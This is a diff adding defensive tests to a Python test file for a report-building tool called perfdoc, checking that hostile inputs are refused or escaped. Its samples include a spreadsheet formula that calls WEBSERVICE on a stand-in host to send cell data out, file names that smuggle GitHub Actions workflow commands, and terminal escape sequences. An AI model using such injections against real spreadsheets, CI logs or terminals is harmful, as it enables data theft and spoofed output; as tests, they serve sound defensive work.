@@ -614,3 +614,66 @@ def test_a_year_of_thousands_of_digits(world):
         "year: 2020 ", "year: 0x" + "f" * 5000 + " "), encoding="utf-8")
     done = run_perfdoc("build", str(project))
     assert_refused(done, project, outside, before, "PD102", "content/report.md")
+
+
+# ---------------------------------------------------------------- round two: layouts, logs
+
+
+def test_a_grade_name_cannot_become_a_formula(world):
+    project, outside = world
+    before = snapshot(project, outside)
+    layout = (LAYOUT_DIR / "jiangsu-2020.toml").read_text(encoding="utf-8")
+    hostile = '良"&WEBSERVICE("http://example.invalid/?"&A2)&"'
+    (project / "content" / "mine.toml").write_text(
+        layout.replace('name = "良"', "name = '" + hostile + "'"), encoding="utf-8")
+    facts = project / "content" / "report.md"
+    facts.write_text(facts.read_text(encoding="utf-8")
+                     .replace("layout: jiangsu-2020", "layout: content/mine.toml"), encoding="utf-8")
+    done = run_perfdoc("build", str(project))
+    assert_refused(done, project, outside, before, "PD003", "content/report.md")
+    assert "grade name" in done.stdout
+
+
+def test_grade_formulas_quote_their_names():
+    """Names are validated when read; the formula still quotes them as literals."""
+    import dataclasses
+
+    from perfdoc.sheets.xlsx import grade_formula
+    from perfdoc.sources.layout import Grade, load_layout
+
+    layout = load_layout("jiangsu-2020")
+    odd = dataclasses.replace(layout, grades=(Grade('A"&B', layout.grades[0].min),
+                                              Grade("C", layout.grades[-1].min)))
+    assert grade_formula(odd, "E9").text == 'IF(E9>=90,"A""&B","C")'
+
+
+def lines_of(done) -> list[str]:
+    return (done.stdout + done.stderr).split("\n")
+
+
+def assert_clean_log(done) -> None:
+    for line in lines_of(done):
+        assert not line.lstrip().startswith("::"), line
+        assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", line), repr(line)
+
+
+def test_a_folder_name_cannot_start_a_workflow_command(sample_copy):
+    projects = sorted((sample_copy / "projects").iterdir())
+    projects[0].rename(projects[0].parent / "01-x\n::error title=pwned::owned\x1b[2J")
+    done = run_perfdoc("build", str(sample_copy))
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert_clean_log(done)
+    assert "01-x\\x0a::error" in done.stdout  # one line, its break shown escaped
+
+
+def test_fix_prints_no_raw_escape_sequences_or_file_names(sample_copy):
+    (sample_copy / "content" / "01-overview.md").write_bytes(
+        (sample_copy / "content" / "01-overview.md").read_bytes()
+        + "\n中文,逗号\x1b]0;owned\x07\x1b[2J\n::error::x\n".encode())
+    bad = sample_copy / "content" / "06-x\n::error title=t::y.md"
+    bad.write_text("---\nsection: overview\ntitle: 一、部门概况\n---\n中文,逗号\n", encoding="utf-8")
+    for args in (("fix", "--diff"), ("fix", "--check")):
+        done = run_perfdoc(*args, str(sample_copy))
+        assert done.returncode in (0, 1), done.stdout + done.stderr
+        assert_clean_log(done)
+        assert "\x1b" not in done.stdout + done.stderr
